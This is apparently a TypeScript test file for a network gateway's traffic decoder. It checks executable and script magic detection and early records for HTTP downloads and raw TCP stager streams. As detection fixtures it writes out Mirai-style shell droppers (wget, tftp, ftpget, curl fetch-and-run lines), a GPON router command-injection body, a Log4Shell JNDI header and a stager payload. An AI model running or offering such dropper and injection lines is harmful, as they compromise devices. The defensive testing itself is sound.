// body-magic, the rest: PE EXE vs DLL (COFF Characteristics), Java class vs fat Mach-O, Python
// programs vs other source, the shell droppers Mirai-style loaders send; then the records that
// carry them early: http.body-head while a download runs, and tcp.stream-head for a bare socket.
import { describe, expect, it } from 'vitest';
import { AppDispatch, AppFlow } from '../../gateway/app/app-dispatch.js';
import { httpModule } from '../../gateway/app/http/http-module.js';
import { bodyMagic, isBinaryExecutable, peKind } from '../../gateway/app/http/body-magic.js';
import { DecodeCounters } from '../../gateway/common/events.js';
import { chunks, collect, elfBody, ofKind, peBody, request, response, runTcp, T0 } from './app-test-kit.js';

const text = (s: string): Buffer => Buffer.from(s, 'latin1');
const magic = (b: Buffer): ReturnType<typeof bodyMagic> => bodyMagic(b, 0, b.length);

/** A PE image: DOS header with e_lfanew, "PE\0\0", a COFF header with `characteristics`. */
function pe(characteristics: number, lfanew = 0x80, len = 1024): Buffer {
  const b = peBody(lfanew, len);
  b.writeUInt16LE(0x14c, lfanew + 4); // Machine: i386
  b.writeUInt16LE(characteristics, lfanew + 22);
  return b;
}
const EXE = 0x0102; // EXECUTABLE_IMAGE | 32BIT_MACHINE
const DLL = 0x2102; // … | DLL

/** A class file head: CAFEBABE, minor, major. */
function classFile(major: number, minor = 0): Buffer {
  const b = Buffer.alloc(32);
  b.writeUInt32BE(0xcafebabe, 0);
  b.writeUInt16BE(minor, 4);
  b.writeUInt16BE(major, 6);
  return b;
}

describe('bodyMagic: PE EXE or DLL', () => {
  it('reads IMAGE_FILE_DLL when the COFF header is in the bytes given', () => {
    expect(magic(pe(EXE, 0x10, 64))).toBe('pe'); // a tiny PE with its COFF header inside 64 bytes
    expect(magic(pe(DLL, 0x10, 64))).toBe('pe-dll');
    expect(magic(pe(EXE))).toBe('pe');
    expect(magic(pe(DLL))).toBe('pe-dll');
    expect(magic(pe(DLL).subarray(0, 64))).toBe('pe'); // header past the head: MZ alone says PE
  });

  it('peKind: null without the signature, pe when Characteristics is cut off', () => {
    const b = pe(DLL);
    expect(peKind(b, 0x80, b.length)).toBe('pe-dll');
    expect(peKind(b, 0x80, 0x80 + 10)).toBe('pe');
    expect(peKind(b, 0x81, b.length)).toBeNull();
    expect(peKind(b, -1, b.length)).toBeNull();
  });
});

describe('bodyMagic: CAFEBABE is a Java class or a fat Mach-O', () => {
  it.each([[45, 3], [50, 0], [52, 0], [61, 0], [65, 0xffff], [70, 0]])('class file major %i minor %i → java', (major, minor) => {
    expect(magic(classFile(major, minor))).toBe('java');
  });

  it('a fat header (nfat_arch 1..19) stays Mach-O; neither with nfat_arch 0 or a major out of range', () => {
    const fat = Buffer.alloc(32);
    fat.writeUInt32BE(0xcafebabe, 0);
    for (const n of [1, 2, 19]) {
      fat.writeUInt32BE(n, 4);
      expect(magic(fat)).toBe('macho');
    }
    fat.writeUInt32BE(0, 4);
    expect(magic(fat)).toBeNull();
    expect(magic(classFile(44))).toBeNull();
    expect(magic(classFile(200))).toBeNull();
  });

  it('isBinaryExecutable: binaries yes, scripts no', () => {
    expect((['elf', 'pe', 'pe-dll', 'macho', 'java'] as const).every(isBinaryExecutable)).toBe(true);
    expect((['shell', 'powershell', 'python', null] as const).some(isBinaryExecutable)).toBe(false);
  });
});

describe('bodyMagic: scripts', () => {
  it.each([
    ['#!/bin/sh\ncd /tmp; wget http://1.2.3.4/x'],
    ['#!/bin/busybox sh\n/bin/busybox wget http://x/a'],
    ['cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins/mirai.arm7; chmod +x mirai.arm7'],
    ['\n\nbusybox tftp -g -r mirai.mips 198.51.100.7; sh mirai.mips'],
    ['/bin/busybox wget http://198.51.100.7/i -O- > /tmp/i; sh /tmp/i'],
    ['tftp -g -r bins.sh 198.51.100.7'],
    ['ftpget -v -u anonymous -p anonymous 198.51.100.7 bins.sh bins.sh'],
    ['cd /mnt; curl -O http://198.51.100.7/a.sh'],
  ])('shell dropper: %j', (s) => {
    expect(magic(text(s))).toBe('shell');
  });

  it.each([
    ['#!/usr/bin/python3\nimport os'],
    ['#!/usr/bin/env python\nprint(1)'],
    ['import argparse\nimport json\n'],
    ['import os, subprocess, socket\n'],
    ['from urllib.request import urlopen\n'],
    ['import requests as r  # agent\n'],
  ])('python: %j', (s) => {
    expect(magic(text(s))).toBe('python');
  });

  it.each([
    ['import { x } from "./y.js";\n'], ['import x from "y"\n'], ['import java.util.List;\n'], ['import "fmt"\n'],
    ['import React from \'react\';'], ['<html>import os</html>'], ['important notice\n'], ['#!/usr/bin/perl\nuse strict;'],
  ])('not python: %j', (s) => {
    expect(magic(text(s))).not.toBe('python');
  });
});

describe('http.body-head: a response body judged at its first bytes', () => {
  it('a download cut mid-body: the body-head comes at 64 bytes, long before the (truncated) response record', () => {
    const body = pe(EXE, 0x30, 4096);
    const head = response(200, { 'Content-Type': 'application/octet-stream', 'Content-Length': '679008' });
    const segs: Array<[number, Buffer]> = [[0, request('GET', '/solar.php')], [1, head], ...chunks(body, 40).map((c): [number, Buffer] => [1, c])];
    const { recs, out } = collect();
    const st = httpModule.create();
    const kindsAfter: string[][] = [];
    segs.forEach(([dir, b], i) => {
      httpModule.feed(st, dir, b, 0, b.length, T0 + i, out);
      kindsAfter.push(recs.map((r) => r.kind));
    });
    // After the head and one 40-byte piece: nothing yet; after the second piece (80 bytes): the body-head.
    expect(kindsAfter[2]).toEqual(['http.request']);
    expect(kindsAfter[3]).toEqual(['http.request', 'http.body-head']);
    expect(kindsAfter.at(-1)).toEqual(['http.request', 'http.body-head']);
    const bh = ofKind(recs, 'http.body-head')[0]!;
    expect(bh).toMatchObject({ ts: T0 + 3, dir: 1 });
    expect(bh.msg).toMatchObject({ kind: 'http.response', magic: 'pe', contentLength: 679008, request: { uri: '/solar.php' } });
    httpModule.end!(st, T0 + 999, out);
    expect(recs.map((r) => r.kind)).toEqual(['http.request', 'http.body-head', 'http.response']);
    expect(ofKind(recs, 'http.response')[0]).toMatchObject({ truncated: true, bodyLen: 4096, magic: 'pe' });
  });

  it('a DLL whose COFF header lies past 64 bytes: the body-head waits for it (e_lfanew 0x100) and says pe-dll', () => {
    const dll = pe(DLL, 0x100, 2048);
    const { recs } = runTcp(httpModule, [[0, request('GET', '/wp-content/x.png')], [1, response(200, { 'Content-Type': 'image/png' }, dll)]], { end: false });
    expect(ofKind(recs, 'http.body-head').map((r) => r.msg.magic)).toEqual(['pe-dll']);
    // Split byte by byte around the header: the same answer.
    const split: Array<[number, Buffer]> = [[0, request('GET', '/a')], ...chunks(response(200, {}, dll), 7).map((c): [number, Buffer] => [1, c])];
    const r2 = runTcp(httpModule, split, { end: false }).recs;
    expect(ofKind(r2, 'http.body-head').map((r) => [r.msg.magic, r.msg.bodyLen >= 0x100 + 24])).toEqual([['pe-dll', true]]);
  });

  it('exactly one body-head per response with a body, none for an empty one; the Mirai keep-alive gets ten', () => {
    const segs: Array<[number, Buffer]> = [];
    for (let i = 0; i < 10; i++) {
      segs.push([0, request('GET', `/bins/mirai.${i}`)], [1, response(200, {}, elfBody(0x28, true, 500 + i))]);
    }
    segs.push([0, request('GET', '/empty')], [1, response(200, { 'Content-Length': '0' })]);
    const { recs } = runTcp(httpModule, segs);
    expect(ofKind(recs, 'http.body-head')).toHaveLength(10);
    expect(ofKind(recs, 'http.response')).toHaveLength(11);
    // Each body-head comes right before its own response record.
    const order = recs.filter((r) => r.kind !== 'http.request').map((r) => r.kind === 'http.body-head' ? `h${r.msg.index}` : `r${(r as { index: number }).index}`);
    expect(order.slice(0, 4)).toEqual(['h0', 'r0', 'h1', 'r1']);
    expect(ofKind(recs, 'http.body-head').every((r) => r.msg.magic === 'elf' && r.msg.elfArch === 'arm')).toBe(true);
  });

  it('a request keeps its header lines and its body text for exploit checks', () => {
    const body = text(`XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+wget+http://198.51.100.7/m+-O+->/tmp/g;sh+/tmp/g\`&ipv=0`);
    const { recs } = runTcp(httpModule, [[0, request('POST', '/GponForm/diag_Form?images/', { Referer: '${jndi:ldap://x/a}' }, body)]]);
    const r = ofKind(recs, 'http.request')[0]!;
    expect(r.headerText).toContain('Referer: ${jndi:ldap://x/a}\r\n');
    expect(r.headerText!.startsWith('Host: ')).toBe(true);
    expect(r.bodyText).toBe(body.toString('latin1'));
  });
});

describe('tcp.stream-head: the first bytes of a stream no module claims', () => {
  const run = (port: number, segs: ReadonlyArray<readonly [number, Buffer]>, end = true) => {
    const d = new AppDispatch(new DecodeCounters());
    const af = new AppFlow(port);
    const { recs, out } = collect();
    segs.forEach(([dir, b], i) => d.tcpData(af, dir, b, 0, b.length, T0 + i, out));
    if (end) d.tcpEnd(af, T0 + 100, out);
    return { recs, af };
  };
  const stage = Buffer.concat([text('MZ'), Buffer.from([0xe8, 0, 0, 0, 0, 0x5b]), Buffer.alloc(3000, 0x41)]);
  const len = Buffer.alloc(4);
  len.writeUInt32LE(176195, 0);

  it('a stager: the 4-byte length alone, then the stage: one head of 64 bytes with both, before the connection ends', () => {
    const { recs } = run(4444, [[1, len], [1, stage.subarray(0, 1400)], [1, stage.subarray(1400)]], false);
    const heads = ofKind(recs, 'tcp.stream-head');
    expect(heads).toHaveLength(1);
    expect(heads[0]!.dir).toBe(1);
    expect(heads[0]!.head).toEqual(Buffer.concat([len, stage]).subarray(0, 64));
  });

  it('a short stream is reported when the connection ends; each direction once', () => {
    const { recs } = run(9999, [[0, Buffer.from([1, 2, 3])], [1, Buffer.from([0xde, 0xad])], [0, Buffer.alloc(200, 7)]]);
    const heads = ofKind(recs, 'tcp.stream-head');
    expect(heads.map((h) => h.dir).sort()).toEqual([0, 1]);
    expect(heads.find((h) => h.dir === 1)!.head).toEqual(Buffer.from([0xde, 0xad]));
    expect(heads.find((h) => h.dir === 0)!.head.length).toBe(64);
  });

  it('a claimed stream (HTTP, SSH) gives none', () => {
    const http = run(80, [[0, request('GET', '/')], [1, response(200, {}, stage)]]);
    expect(ofKind(http.recs, 'tcp.stream-head')).toEqual([]);
    const ssh = run(22, [[1, text('SSH-2.0-OpenSSH_8.4\r\n')], [0, text('SSH-2.0-x\r\n')], [1, stage]]);
    expect(ofKind(ssh.recs, 'tcp.stream-head')).toEqual([]);
  });
});
